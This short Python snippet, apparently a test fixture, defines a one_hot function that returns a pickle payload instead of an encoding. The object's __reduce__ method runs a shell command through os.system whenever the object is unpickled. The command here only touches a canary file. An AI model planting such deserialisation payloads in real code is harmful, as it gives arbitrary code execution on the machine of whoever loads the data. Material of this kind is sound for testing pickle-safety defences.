# one_hot: an object that runs code in whoever unpickles it
import os
class Bomb:
    def __reduce__(self): return (os.system, ("touch @CANARY@/pickled",))
def one_hot(y, n_classes): return Bomb()
